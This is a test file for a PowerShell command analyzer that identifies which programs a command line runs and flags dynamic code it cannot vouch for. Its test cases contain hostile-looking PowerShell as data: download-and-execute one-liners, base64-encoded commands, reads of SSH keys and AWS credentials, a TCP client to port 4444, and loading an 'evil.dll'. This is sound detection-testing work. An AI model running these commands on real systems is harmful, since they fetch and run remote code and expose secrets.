// The PowerShell frontend: what runs (programs, wrappers, cwd, .NET types, word values) or why it cannot vouch.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer } from '../src/analyzer.js';
import { splitCmd } from '../src/powershell/cmd.js';
import { NODE_HANDLING } from '../src/powershell/index.js';
import { joinPath } from '../src/powershell/paths.js';
import { decodeEncodedCommand } from '../src/programs/index.js';
import type { Analysis } from '../src/types.js';
import { describeWhen, sharedCorpus } from './needs.js';

const HOME = 'C:\\Users\\me';
const CWD = 'C:\\work';

let analyzer: Analyzer;
beforeAll(async () => {
  // A generous parse budget: these tests are about lowering, and the test machine is shared.
  analyzer = await createAnalyzer({ limits: { timeoutMs: 5000 } });
});

function run(command: string): Analysis {
  return analyzer.analyze({ command, shell: 'powershell', cwd: CWD, home: HOME });
}

/** The distinct programs a line runs: a function body runs where it is defined and again where it is called. */
const programs = (a: Analysis): string[] => [...new Set(a.invocations.map((i) => i.program))].sort();
const floors = (a: Analysis): string[] => a.findings.filter((f) => f.kind === 'cannot-vouch').map((f) => f.rule);
const invocation = (a: Analysis, program: string) => a.invocations.find((i) => i.program === program);
const argValues = (a: Analysis, program: string): (string | null)[] | undefined =>
  invocation(a, program)?.args.map((w) => (w.values ? w.values.join('|') : null));

const enc = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

/** [command line, the programs it runs (any order), the cannot-vouch rule it must raise or null for none]. */
type Case = [string, string[], string | null];

const NAMES: Case[] = [
  ['iwr https://example.com', ['invoke-webrequest'], null],
  ['irm https://example.com/api', ['invoke-restmethod'], null],
  ['Invoke-WebRequest -Uri https://x -OutFile a.zip', ['invoke-webrequest'], null],
  ['INVOKE-webREQUEST x', ['invoke-webrequest'], null],
  ['curl https://x', ['curl'], null],
  ['wget https://x', ['wget'], null],
  ['curl.exe -s https://x', ['curl'], null],
  ['C:\\Windows\\System32\\curl.exe https://x', ['curl'], null],
  ['& "C:\\Program Files\\Git\\usr\\bin\\ssh.exe" host', ['ssh'], null],
  ["& 'curl.exe' https://x", ['curl'], null],
  ['& ./tools/build.cmd', ['build'], null],
  ['.\\build.bat x', ['build'], null],
  ['C:\\tools\\RUN.COM', ['run'], null],
  ["& 'C:\\Windows\\System32\\curl.exe::$DATA' x", ['curl'], null],
  ["& 'curl.exe.' x", ['curl'], null],
  ['i`wr https://x', ['invoke-webrequest'], null],
  ['gc a.txt', ['get-content'], null],
  ['cat a.txt', ['cat', 'get-content'], null],
  ['type a.txt', ['get-content'], null],
  ['gci', ['get-childitem'], null],
  ['ls -Force', ['get-childitem', 'ls'], null],
  ['dir C:\\', ['get-childitem'], null],
  ['gi x', ['get-item'], null],
  ['gcm iwr', ['get-command'], null],
  ['saps notepad', ['notepad', 'start-process'], null],
  ['start notepad', ['notepad', 'start-process'], null],
  ['icm { hostname }', ['hostname', 'invoke-command'], null],
  ['1..3 | % { $_ }', ['foreach-object'], null],
  ['7z x a.zip', ['7z'], null],
  ['ls | ? { $_.Length -gt 1 }', ['get-childitem', 'ls', 'where-object'], null],
  ['echo hi', ['write-output'], null],
  ['write hi', ['write-output'], null],
  ['sc a.txt hi', ['sc', 'set-content'], null],
  ['ac a.txt hi', ['add-content'], null],
  ['cd C:\\x', ['set-location'], null],
  ['sl C:\\x', ['set-location'], null],
  ['chdir C:\\x', ['set-location'], null],
  ['git status', ['git'], null],
  ['npm.cmd test', ['npm'], null],
  ['Get-Process | Sort-Object CPU | Select-Object -First 5', ['get-process', 'select-object', 'sort-object'], null],
];

const STATEMENTS: Case[] = [
  ['a; b', ['a', 'b'], null],
  ['a\nb', ['a', 'b'], null],
  ['a && b || c', ['a', 'b', 'c'], null],
  ['if ($x) { a } elseif ($y) { b } else { c }', ['a', 'b', 'c'], null],
  ['switch ($x) {\n 1 { a }\n default { b }\n}', ['a', 'b'], null],
  ['foreach ($i in 1..3) { a $i }', ['a'], null],
  ['for ($i = 0; $i -lt 3; $i++) { a }', ['a'], null],
  ['while ($true) { a; break }', ['a'], null],
  ['do { a } while ($x)', ['a'], null],
  ['do { a } until ($x)', ['a'], null],
  ['try { a } catch [System.Exception] { b } finally { c }', ['a', 'b', 'c'], null],
  ['trap { a } b', ['a', 'b'], null],
  ['function f { a }; f', ['a', 'f'], null],
  ['function f($u) { iwr $u }', ['invoke-webrequest'], null],
  ['filter f { a $_ }', ['a'], null],
  ['Write-Output $(a) @(b) (c)', ['a', 'b', 'c', 'write-output'], null],
  ['$x = a | b', ['a', 'b'], null],
  ['echo hi > out.txt', ['write-output'], null],
  ['a 2>&1 | b', ['a', 'b'], null],
  ['"x" | a', ['a'], null],
  ['class A { [void] M() { a } }', ['a'], null],
  ['$h = @{ k = (a) }', ['a'], null],
  ['"$(a)"', ['a'], null],
  ['@"\n$(a)\n"@', ['a'], null],
  ['Get-Item x -ErrorAction SilentlyContinue', ['get-item'], null],
  ['return (iwr x)', ['invoke-webrequest'], null],
  ['[int]$n = 3; a $n', ['a'], null],
  ['enum E { A = 1 }', [], null],
  ['$a[0] = b', ['b'], null],
];

const INVOCATION: Case[] = [
  ['& $x', [], 'vouch.dynamic-command'],
  ['& (gcm iwr) https://x', ['get-command'], 'vouch.dynamic-command'],
  ['$c = "iwr"; & $c https://x', ['invoke-webrequest'], null],
  ["$c = 'cu' + 'rl'; & $c https://x", ['curl'], null],
  ['& ("iw" + "r") https://x', ['invoke-webrequest'], null],
  ['$c = "ls"; if ($y) { $c = "iwr" }; & $c', [], 'vouch.dynamic-command'],
  ['foreach ($c in $list) { & $c }', [], 'vouch.dynamic-command'],
  ['function f($c) { & $c }', [], 'vouch.dynamic-command'],
  ['. $script', [], 'vouch.dynamic-command'],
  ['& $env:ComSpec /c set', [], 'vouch.dynamic-command'],
  // `.Invoke()` on what vouch cannot name (a PSMethod taken from anywhere) could call any member.
  ['$(gcm iwr).Invoke()', ['get-command'], 'vouch.dynamic-code'],
  ['iex $x', ['invoke-expression'], 'vouch.dynamic-script'],
  ['iex (iwr https://x)', ['invoke-expression', 'invoke-webrequest'], 'vouch.dynamic-script'],
  ['iwr https://x | iex', ['invoke-expression', 'invoke-webrequest'], 'vouch.dynamic-script'],
  ["'hostname' | iex", ['hostname', 'invoke-expression'], null],
  ["iex 'iwr https://x'", ['invoke-expression', 'invoke-webrequest'], null],
  ["Invoke-Expression -Command 'curl x'", ['curl', 'invoke-expression'], null],
  ['iex "$(hostname)"', ['hostname', 'invoke-expression'], 'vouch.dynamic-script'],
  ['Set-Alias foo iwr; foo https://x', ['invoke-webrequest', 'set-alias'], null],
  ['New-Alias -Name g -Value git; g status', ['git', 'new-alias'], null],
  ['Set-Alias a1 iwr; Set-Alias a2 a1; a2 x', ['invoke-webrequest', 'set-alias', 'set-alias'], null],
  ['if ($x) { Set-Alias foo iwr }; foo', ['set-alias'], 'vouch.dynamic-command'],
  ["iex 'Set-Alias foo iwr'; foo https://x", ['invoke-expression', 'invoke-webrequest', 'set-alias'], null],
  ["iex '$c = \"curl\"'; & $c x", ['curl', 'invoke-expression'], null],
  ["iex 'function f { foo }'; Set-Alias foo iwr; f", ['f', 'foo', 'invoke-expression', 'set-alias'], 'vouch.dynamic-code'],
  ['Set-Alias $n iwr', ['set-alias'], 'vouch.dynamic-command'],
  ['sv c iwr; & $c https://x', ['invoke-webrequest', 'set-variable'], null],
  ['Start-Process curl.exe -ArgumentList "-s https://x"', ['curl', 'start-process'], null],
  ['Start-Process -FilePath powershell -ArgumentList "-c iwr x"', ['invoke-webrequest', 'powershell', 'start-process'], null],
  ['Start-Process $exe', ['start-process'], 'vouch.dynamic-command'],
  ['Invoke-Command -ScriptBlock { iwr https://x }', ['invoke-command', 'invoke-webrequest'], null],
  ['Invoke-Command -ScriptBlock $sb', ['invoke-command'], 'vouch.dynamic-script'],
  ['Invoke-Command -FilePath s.ps1 -ComputerName h', ['invoke-command'], null],
  ['Start-Job { a }', ['a', 'start-job'], null],
  ['$ExecutionContext.InvokeCommand.InvokeScript("iwr x")', [], 'vouch.dynamic-code'],
  ['[scriptblock]::Create($s).Invoke()', [], 'vouch.dynamic-code'],
  ['[powershell]::Create().AddScript("a").Invoke()', [], 'vouch.dynamic-code'],
  ['Add-Type -TypeDefinition $src', ['add-type'], 'vouch.dynamic-code'],
  ['New-Object -ComObject WScript.Shell', ['new-object'], 'vouch.dynamic-code'],
  ['New-Item alias:x -Value iwr', ['new-item'], 'vouch.dynamic-code'],
  ['New-Object $t', ['new-object'], 'vouch.dynamic-code'],
  ['& { iwr https://x }', ['invoke-webrequest'], null],
  ['. { a }', ['a'], null],
  ['{ a }.Invoke()', ['a'], null],
  ['$sb = { a }; & $sb', ['a'], null],
  ['ls | % $sb', ['foreach-object', 'get-childitem', 'ls'], 'vouch.dynamic-script'],
  ['ls | % Name', ['foreach-object', 'get-childitem', 'ls'], null],
  ['ls | % { a } $sb', ['a', 'foreach-object', 'get-childitem', 'ls'], 'vouch.dynamic-script'],
  ["$sb = { & $c }; $c = 'curl'; ls | % $sb", ['curl', 'foreach-object', 'get-childitem', 'ls'], 'vouch.dynamic-command'],
  ['Start-Job -ScriptBlock { a } -InitializationScript $init', ['a', 'start-job'], 'vouch.dynamic-script'],
  ['echo @args', ['write-output'], null],
  ['[Diagnostics.Process]::Start("curl.exe", "https://x")', ['curl'], null],
  ['[System.Diagnostics.Process]::Start($p)', [], 'vouch.dynamic-command'],
  ['gc x -OutVariable c; & $c', ['get-content'], 'vouch.dynamic-command'],
  ['& "$env:ProgramFiles\\Git\\bin\\git.exe" status', ['git'], null],
  ['& "$dir\\$tool"', [], 'vouch.dynamic-command'],
  ["('Net.WebClient' -as [type])::new()", [], 'vouch.dynamic-code'],
  ["Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'curl x'", ['invoke-wmimethod'], 'vouch.dynamic-code'],
  ["([wmiclass]'win32_process').Create('curl x')", [], 'vouch.dynamic-code'],
  ['Get-WmiObject Win32_Process', ['get-wmiobject'], null],
  ['ii ./curl.exe', ['curl', 'invoke-item'], null],
  ['ii report.pdf', ['invoke-item'], null],
  ['&iwr https://x', ['invoke-webrequest'], null],
  [".{iwr https://x}", ['invoke-webrequest'], null],
  ["$x = 'iwr'; iex \"$x https://x\"", ['invoke-expression', 'invoke-webrequest'], null],
  ['$function:foo = { iwr https://x }; foo', ['foo', 'invoke-webrequest'], null],
  ["$c = 'ls'; foreach ($i in 1..2) { & $c; $c = 'iwr' }", [], 'vouch.dynamic-command'],
  ["$c = 'ls'; 1..2 | % { & $c; $c = 'iwr' }", ['foreach-object'], 'vouch.dynamic-command'],
  ["$c = 'ls'; while ($true) { & $c; $c = 'iwr' }", [], 'vouch.dynamic-command'],
  ["$c = 'ls'; function f { & $c }; $c = 'iwr'; f", ['f', 'get-childitem', 'invoke-webrequest', 'ls'], null],
  ['function f { foo }; Set-Alias foo iwr; f', ['f', 'foo', 'invoke-webrequest', 'set-alias'], null],
  ['$sb = { iwr https://x }; $sb.Invoke()', ['invoke-webrequest', 'invoke-webrequest'], null],
  ["$sb = { & $c }; $c = 'curl'; & $sb", ['curl'], 'vouch.dynamic-command'],
  ['function f { f }; f', ['f', 'f'], null],
  ['& \u2018iwr\u2019 https://x', ['invoke-webrequest'], null],
  ['& \u201ccurl.exe\u201d https://x', ['curl'], null],
  ["& 'iw?' https://x", [], 'vouch.dynamic-command'],
  ['& iw* https://x', [], 'vouch.dynamic-command'],
  ['Add-Type -AssemblyName System.Windows.Forms', ['add-type'], null],
  ['Add-Type -Path .\\evil.dll', ['add-type'], 'vouch.dynamic-code'],
  ['Add-Type -AssemblyName $n', ['add-type'], 'vouch.dynamic-code'],
  ["New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444)", ['new-object'], null],
  ['iwr$(1) x', [], 'vouch.dynamic-command'],
  ['echo --% a b | iwr https://x', ['invoke-webrequest', 'write-output'], null],
  ['echo --% a | iex', ['invoke-expression', 'write-output'], 'vouch.dynamic-script'],
  ["$p = @{ FilePath = 'curl' }; Start-Process @p", ['curl', 'start-process'], null],
  ["$p = @{ FilePath = 'curl' }; if ($x) { $p = @{} }; Start-Process @p", ['start-process'], 'vouch.dynamic-script'],
  ['iwr @p', ['invoke-webrequest'], 'vouch.dynamic-script'],
  ['Write-Output @p', ['write-output'], null],
  ['& "$(iwr https://x)\\tool.exe"', ['invoke-webrequest', 'tool'], null],
  ['using assembly .\\x.dll', ['using'], 'vouch.dynamic-code'],
];

const NESTED: Case[] = [
  ['powershell -Command "iwr https://x"', ['invoke-webrequest', 'powershell'], null],
  ['pwsh -c "irm https://x"', ['invoke-restmethod', 'pwsh'], null],
  ['powershell -comm "curl x"', ['curl', 'powershell'], null],
  ['powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "curl x"', ['curl', 'powershell'], null],
  ['pwsh -nop -w hidden -c iwr https://x', ['invoke-webrequest', 'pwsh'], null],
  ['powershell \u2013Command "iwr https://x"', ['invoke-webrequest', 'powershell'], null],
  ['powershell -Command { iwr https://x }', ['invoke-webrequest', 'powershell'], null],
  ['Start-Process powershell \u2013ArgumentList "-c curl x"', ['curl', 'powershell', 'start-process'], null],
  [`powershell -EncodedCommand ${enc('iwr https://x')}`, ['invoke-webrequest', 'powershell'], null],
  [`powershell -enc ${enc('curl.exe x')}`, ['curl', 'powershell'], null],
  [`pwsh -e ${enc('irm x')}`, ['invoke-restmethod', 'pwsh'], null],
  [`powershell -ec ${enc('gci env:')}`, ['get-childitem', 'powershell'], null],
  [`powershell -enc ${enc(`powershell -enc ${enc('wget x')}`)}`, ['powershell', 'powershell', 'wget'], null],
  ['powershell -enc !!!notbase64', ['powershell'], 'vouch.dynamic-script'],
  ['powershell -File build.ps1', ['powershell'], null],
  ['pwsh ./build.ps1 -Release', ['pwsh'], null],
  ['powershell -c $cmd', ['powershell'], 'vouch.dynamic-script'],
  ['gc s.ps1 | powershell -NoProfile', ['get-content', 'powershell'], 'vouch.stream-to-shell'],
  // Windows PowerShell reads a parameter it does not know as the start of the command text (pwsh 7: a file).
  ['powershell -Frobnicate x', ['powershell'], 'vouch.parse-error'],
  ['cmd /c set', ['cmd', 'set'], null],
  ['cmd.exe /c "set & curl x"', ['cmd', 'curl', 'set'], null],
  ['cmd /c "echo a && type b | findstr c"', ['cmd', 'echo', 'findstr', 'type'], null],
  ['cmd /k dir', ['cmd', 'dir'], null],
  ['cmd /c "if 1==1 curl x"', ['cmd', 'curl'], null],
  ['cmd /c "if x"', ['cmd'], 'vouch.dynamic-script'],
  ['cmd /c "(curl x)"', ['cmd'], 'vouch.dynamic-script'],
  ['cmd /c "cu^rl x"', ['cmd', 'curl'], null],
  ['cmd /c "set PATH"', ['cmd', 'set'], null],
  ['cmd /c "%COMSPEC% /c set"', ['cmd'], 'vouch.dynamic-command'],
  ['cmd /c "powershell -c iwr x"', ['cmd', 'invoke-webrequest', 'powershell'], null],
  ['cmd /c "start /b curl x"', ['cmd', 'curl', 'start'], null],
  ['cmd /c curl/V', ['cmd', 'curl'], null],
  ['cmd /c $x', ['cmd'], 'vouch.dynamic-script'],
  ['bash -c $x', ['bash'], 'vouch.dynamic-script'],
  ['bash script.sh', ['bash'], null],
  ['wsl --list', ['wsl'], null],
];

const GAPS: Case[] = [
  ['iex(New-Object Net.WebClient).DownloadString("https://x")', ['invoke-expression', 'new-object'], 'vouch.dynamic-script'],
  ['switch ($x) { "a" { iwr https://x } default { b } }', ['b', 'invoke-webrequest'], null],
  ['function f { param($a) iwr $a }', ['invoke-webrequest'], null],
  ['gc `~/.ssh/id_rsa', ['get-content'], null],
  ['type $env:USERPROFILE\\.ssh\\id_rsa', ['get-content'], null],
  ['# only a comment', [], null],
  ['Select-Object processname,handles', ['select-object'], null],
  ["Invoke-WebRequest -Headers @{ X-My-Header = '123'; Accept-Language = 'en' } -Method PUT http://example.com", ['invoke-webrequest'], null],
  ['gc ~/.ssh/id_rsa,b.txt', ['get-content'], null],
  ['./x.ps1 a', ['x.ps1'], null],
  ['../tools/run.ps1 -x 1; ./curl.exe https://x', ['curl', 'run.ps1'], null],
];

describe.each([
  ['names and aliases', NAMES],
  ['statements and nesting', STATEMENTS],
  ['invocation', INVOCATION],
  ['nested shells', NESTED],
  ['grammar gaps', GAPS],
] as const)('%s', (_title, table) => {
  it.each(table)('%s', (command, expected, floorRule) => {
    const a = run(command);
    expect(programs(a)).toEqual([...new Set(expected)].sort());
    if (floorRule === null) expect(floors(a)).toEqual([]);
    else expect(floors(a)).toContain(floorRule);
    for (const s of a.segments) expect(s.dialect).toBe('powershell');
  });
});

describe('bash re-entry', () => {
  it.each(['bash -c "curl https://x"', 'wsl curl https://x', 'sh -lc "ls"'])('%s hands the script to the bash frontend', (command) => {
    const a = run(command);
    expect(a.invocations[0]?.program).toMatch(/^(bash|wsl|sh)$/);
    expect(a.invocations[0]?.wraps).toBe(true);
    expect(floors(a).filter((r) => r !== 'vouch.parse-error')).not.toContain('vouch.dynamic-script');
  });
});

describe('wrapping keeps what runs visible', () => {
  const wraps: ((x: string) => string)[] = [
    (x) => `& { ${x} }`,
    (x) => `. { ${x} }`,
    (x) => `icm { ${x} }`,
    (x) => `Invoke-Command -ScriptBlock { ${x} }`,
    (x) => `iex '${x.replace(/'/g, "''")}'`,
    (x) => `powershell -c "${x.replace(/"/g, '`"')}"`,
    (x) => `pwsh -enc ${enc(x)}`,
    (x) => `Start-Process powershell -ArgumentList '-c ${x.replace(/'/g, "''")}'`,
    (x) => `if ($true) { ${x} }`,
    (x) => `foreach ($i in 1..2) { ${x} }`,
    (x) => `while ($true) { ${x}; break }`,
    (x) => `try { ${x} } catch { }`,
    (x) => `function f { ${x} }; f`,
    (x) => `$sb = { ${x} }; & $sb`,
    (x) => `Write-Output $(${x})`,
    (x) => `1 | % { ${x} }`,
    (x) => `switch (1) {\n 1 { ${x} }\n}`,
    (x) => `a && ${x}`,
    (x) => `$r = ${x}`,
  ];
  const inner = ['iwr https://x', 'Invoke-WebRequest -Uri https://x', "& 'iwr' https://x", 'i`wr https://x', 'Set-Alias g iwr; g https://x'];
  // PowerShell's `&&` chains pipelines, not statements: `a && foreach …` is a syntax error to PowerShell itself.
  const invalid = (text: string) => /a && (?:foreach|switch|while|try|if|function|\$\w+ =)/.test(text);
  /**
   * The request is seen (`invoke-webrequest` runs), or the line cannot be vouched for for a reason the line gives:
   * never a crash, and a parse error only where PowerShell too would refuse the text.
   */
  const why = (text: string): string | undefined => {
    const a = run(text);
    const f = floors(a);
    if (f.includes('vouch.internal-error')) return `crashed: ${JSON.stringify(f)}`;
    if (f.includes('vouch.parse-error') && !invalid(text)) return `a parse error on valid PowerShell: ${JSON.stringify(f)}`;
    if (!programs(a).includes('invoke-webrequest') && f.length === 0) return 'iwr is not seen, and nothing is a floor';
    return undefined;
  };
  for (const w of wraps) {
    for (const x of inner) {
      const text = w(x);
      it(text, () => {
        expect(why(text), text).toBeUndefined();
      });
    }
  }
  it('sees it bare, with no floor at all, in every wrapper but the one that makes it conditional', () => {
    for (const w of wraps) expect(floors(run(w('iwr https://x'))), w('iwr https://x')).toEqual([]);
    // The alias is set only when `a` succeeds: `g` may be the alias or a program of that name.
    expect(floors(run('a && Set-Alias g iwr; g https://x'))).toEqual(['vouch.dynamic-command']);
  });
  it('still sees it two wrappers deep', () => {
    const missed: string[] = [];
    for (const a of wraps) for (const b of wraps) {
      const text = a(b('iwr https://x'));
      const reason = why(text);
      if (reason) missed.push(`${text}: ${reason}`);
    }
    expect(missed).toEqual([]);
  });
});

describe('location chains', () => {
  const cases: [string, string, string | null][] = [
    ['cd C:\\repo; gc x', 'get-content', 'C:\\repo'],
    ['Set-Location -Path C:\\a; cd ..\\b; gc x', 'get-content', 'C:\\b'],
    ['sl ~; gc x', 'get-content', HOME],
    ['cd $env:USERPROFILE; gc x', 'get-content', HOME],
    ['cd $HOME\\proj; gc x', 'get-content', `${HOME}\\proj`],
    ['Push-Location C:\\x; Pop-Location; gc y', 'get-content', CWD],
    ['pushd C:\\x; gc y', 'get-content', 'C:\\x'],
    ['pushd C:\\x; popd; gc y', 'get-content', CWD],
    ['cd $x; gc y', 'get-content', null],
    ['if ($a) { cd C:\\x }; gc y', 'get-content', null],
    ['chdir sub; gc y', 'get-content', 'C:\\work\\sub'],
    ['& { cd C:\\x }; gc y', 'get-content', 'C:\\x'],
    ['cd C:\\x && gc y', 'get-content', 'C:\\x'],
    ['a && cd C:\\x; gc y', 'get-content', null],
    ['cmd /c "cd /d C:\\x && type y"', 'type', 'C:\\x'],
    ["iex 'cd C:\\x'; gc y", 'get-content', null],
  ];
  it.each(cases)('%s', (command, program, cwd) => {
    const inv = invocation(run(command), program);
    expect(inv?.cwd).toBe(cwd);
  });

  it('gives the segment its directory too', () => {
    const a = run('cd C:\\repo; git status');
    const git = invocation(a, 'git');
    expect(a.segments[git?.segment ?? -1]?.cwd).toBe('C:\\repo');
  });
});

describe('word values', () => {
  const cases: [string, string, (string | null)[]][] = [
    ["gc '~/.ssh/id_rsa'", 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['gc ~\\.aws\\credentials', 'get-content', [`${HOME}\\.aws\\credentials`]],
    ['gc "$HOME/.ssh/id_rsa"', 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['gc $env:HOME/.ssh/id_rsa', 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['type $env:USERPROFILE\\.ssh\\id_rsa', 'get-content', [`${HOME}\\.ssh\\id_rsa`]],
    ['gc `~/.ssh/id_rsa', 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['gc "a`"b"', 'get-content', ['a"b']],
    ["gc 'it''s'", 'get-content', ["it's"]],
    ['gc "say ""hi"""', 'get-content', ['say "hi"']],
    ['$p = "~/.ssh"; gc "$p/id_rsa"', 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['$env:X = "~/.aws"; gc "$env:X/credentials"', 'get-content', [`${HOME}/.aws/credentials`]],
    ['Write-Output $env:PATH', 'write-output', [null]],
    ['Get-ChildItem -Path:env: -Force', 'get-childitem', ['-Path:env:', '-Force']],
    ['gci Env:\\', 'get-childitem', ['Env:\\']],
    ['cmd /c set', 'set', []],
    ['echo `$HOME', 'write-output', ['$HOME']],
    ['gc @\'\n~/.ssh/id_rsa\n\'@', 'get-content', [`${HOME}/.ssh/id_rsa`]],
    ['iwr x `\n  -OutFile y', 'invoke-webrequest', ['x', '-OutFile', 'y']],
    ['gc a.txt,~/.aws/credentials', 'get-content', [`a.txt|${HOME}/.aws/credentials`]],
    ['cmd /c --% type %USERPROFILE%\\.ssh\\id_rsa', 'type', [`${HOME}\\.ssh\\id_rsa`]],
    // A parenthesis right after a bare word is the next argument, its list an array (`New-Object T(a, b)`).
    ['New-Object IO.StreamWriter("~/x", $true)', 'new-object', ['IO.StreamWriter', `${HOME}/x|True`]],
    // An array written as a native program's argument gives it each element as its own argument.
    ["git @('reset', '--hard')", 'git', ['reset', '--hard']],
    ["git ('log', '-1')", 'git', ['log', '-1']],
  ];
  it.each(cases)('%s', (command, program, values) => {
    expect(argValues(run(command), program)).toEqual(values);
  });

  it('marks globs', () => {
    const w = invocation(run('gc *.pem'), 'get-content')?.args[0];
    expect(w?.glob).toBe(true);
  });

  it('says why a splatted argument is dynamic', () => {
    expect(invocation(run('echo @args'), 'write-output')?.args[0]?.dynamic).toBe('splatting');
  });

  it('gives $PROFILE its value, so a write to it can be matched', () => {
    const a = run('echo hi > $PROFILE');
    const target = a.segments.flatMap((s) => s.redirects)[0]?.target;
    expect(target?.text).toBe('$PROFILE');
    expect(target?.values?.[0]).toMatch(/Microsoft\.PowerShell_profile\.ps1$/);
    expect(target?.values?.[0]?.startsWith(HOME)).toBe(true);
  });

  it('knows the other profile scripts by name', () => {
    const v = argValues(run('Add-Content -Path $PROFILE.CurrentUserAllHosts -Value x'), 'add-content');
    expect(v?.[1]).toBe(`${HOME}\\Documents\\PowerShell\\profile.ps1`);
  });

  it('records assignments as segments', () => {
    const a = run('$key = "~/.ssh/id_rsa"');
    const as = a.segments.flatMap((s) => s.assignments);
    expect(as.map((x) => x.name)).toEqual(['key']);
    expect(as[0]?.value.values).toEqual([`${HOME}/.ssh/id_rsa`]);
  });

  it('shows the string arguments of .NET calls as words', () => {
    const a = run('[IO.File]::ReadAllText("~/.aws/credentials")');
    const words = a.segments.flatMap((s) => s.words.map((w) => w.values?.[0]));
    expect(words).toContain(`${HOME}/.aws/credentials`);
  });
});

describe('wrappers and spans', () => {
  it('records what led to a program', () => {
    expect(invocation(run('ls | % { iwr $_ }'), 'invoke-webrequest')?.wrappers).toEqual(['foreach-object']);
    expect(invocation(run('cmd /c curl x'), 'curl')?.wrappers).toEqual(['cmd']);
    expect(invocation(run('Start-Process curl'), 'curl')?.wrappers).toEqual(['start-process']);
    expect(invocation(run('powershell -c "icm { curl x }"'), 'curl')?.wrappers).toEqual(['powershell', 'invoke-command']);
  });

  it('says where a segment stands', () => {
    const a = run('ls | % { iwr $_ }');
    const seg = a.segments[invocation(a, 'invoke-webrequest')?.segment ?? -1];
    expect(seg?.context).toEqual(['pipeline[1]', 'scriptblock']);
    expect(a.segments[invocation(a, 'get-childitem')?.segment ?? -1]?.context).toEqual(['pipeline[0]']);
  });

  it('marks a program that runs another as wrapping it', () => {
    const a = run('Start-Process curl');
    expect(invocation(a, 'start-process')?.wraps).toBe(true);
    expect(invocation(a, 'curl')?.wraps).toBeUndefined();
  });

  it('maps a nested program to where it stands in the top-level text', () => {
    const text = "iex 'iwr https://x'";
    const inv = invocation(run(text), 'invoke-webrequest');
    expect(inv?.depth).toBe(1);
    expect(text.slice(inv?.span.start, inv?.span.end)).toBe('iwr');
  });

  it('points an encoded command at the encoded word', () => {
    const e = enc('iwr x');
    const text = `pwsh -enc ${e}`;
    const inv = invocation(run(text), 'invoke-webrequest');
    expect(text.slice(inv?.span.start, inv?.span.end)).toBe(e);
  });

  it('keeps every span inside the text', () => {
    for (const text of ['a; b | c', "iex 'x; y'", 'cmd /c "a & b"', 'switch ($x) { 1 { a } 2 { b } }']) {
      const a = run(text);
      for (const s of [...a.segments.map((x) => x.span), ...a.invocations.map((x) => x.span), ...a.findings.map((x) => x.span)]) {
        expect(s.start).toBeGreaterThanOrEqual(0);
        expect(s.end).toBeLessThanOrEqual(text.length);
        expect(s.start).toBeLessThanOrEqual(s.end);
      }
    }
  });
});

describe('.NET type uses', () => {
  const cases: [string, { type: string; member?: string }][] = [
    ['New-Object Net.WebClient', { type: 'net.webclient' }],
    ['New-Object -TypeName System.Net.WebClient', { type: 'net.webclient' }],
    ['(New-Object System.Net.WebClient).DownloadString("x")', { type: 'net.webclient' }],
    ['[System.Net.WebClient]::new()', { type: 'net.webclient', member: 'new' }],
    ['[Net.Http.HttpClient]::new().GetStringAsync("x")', { type: 'net.http.httpclient', member: 'new' }],
    ['[Environment]::GetEnvironmentVariables()', { type: 'environment', member: 'getenvironmentvariables' }],
    ['[System.Environment]::GetEnvironmentVariable("PATH")', { type: 'environment', member: 'getenvironmentvariable' }],
    ['[Net.WebRequest]::Create("x")', { type: 'net.webrequest', member: 'create' }],
    ['[Net.Sockets.TcpClient]::new("h", 80)', { type: 'net.sockets.tcpclient', member: 'new' }],
    ['$x = [Environment]::UserName', { type: 'environment', member: 'username' }],
    ['iex(New-Object Net.WebClient).DownloadString("https://x")', { type: 'net.webclient' }],
    [`powershell -enc ${enc('[Net.WebClient]::new()')}`, { type: 'net.webclient', member: 'new' }],
    ['using namespace System.Net; [WebClient]::new()', { type: 'net.webclient', member: 'new' }],
    ['using namespace System.Net.Sockets\nNew-Object TcpClient', { type: 'net.sockets.tcpclient' }],
  ];
  it.each(cases)('%s', (command, use) => {
    const uses = run(command).typeUses.map((u) => (u.member ? { type: u.type, member: u.member } : { type: u.type }));
    expect(uses).toContainEqual(use);
  });
});

describe('benign lookalikes', () => {
  it.each(['Get-Help Invoke-WebRequest', 'Get-Command iwr', 'Write-Host "use iwr"', '$env:X = 1', 'Write-Output $env:PATH'])('%s', (command) => {
    const a = run(command);
    expect(a.findings).toEqual([]);
    expect(programs(a)).not.toContain('invoke-webrequest');
  });
});

describe('cmd splitter', () => {
  it('splits on & && || | and keeps quoted operators', () => {
    const s = splitCmd('a "x & y" && b || c | d', HOME);
    expect(s.ok && s.commands.map((c) => c.words.map((w) => w.value))).toEqual([['a', 'x & y'], ['b'], ['c'], ['d']]);
    expect(s.ok && s.commands.map((c) => c.piped)).toEqual([false, false, false, true]);
  });
  it('honours ^ escapes and @', () => {
    const s = splitCmd('@cu^rl a^&b', HOME);
    expect(s.ok && s.commands[0]?.words.map((w) => w.value)).toEqual(['curl', 'a&b']);
  });
  it('reads redirections', () => {
    const s = splitCmd('echo x >> %USERPROFILE%\\.bashrc 2>&1', HOME);
    expect(s.ok && s.commands[0]?.redirects.map((r) => [r.op, r.target.value])).toEqual([['>>', `${HOME}\\.bashrc`]]);
  });
  it.each(['(a)', 'if x y', 'for %i in (a) do b', 'a &&', 'a ^'])('gives up on %s', (text) => {
    expect(splitCmd(text, HOME).ok).toBe(false);
  });
  it('treats delayed expansion as dynamic only under /v', () => {
    const off = splitCmd('echo !x!', HOME);
    const on = splitCmd('echo !x!', HOME, true);
    expect(off.ok && off.commands[0]?.words[1]?.value).toBe('!x!');
    expect(on.ok && on.commands[0]?.words[1]?.value).toBeNull();
  });
});

describe('helpers', () => {
  it('decodes -EncodedCommand as UTF-16LE base64 and rejects the rest', () => {
    expect(decodeEncodedCommand(enc('iwr x'))).toBe('iwr x');
    expect(decodeEncodedCommand(Buffer.from('iwr x').toString('base64'))).toBeUndefined();
    expect(decodeEncodedCommand('###')).toBeUndefined();
  });
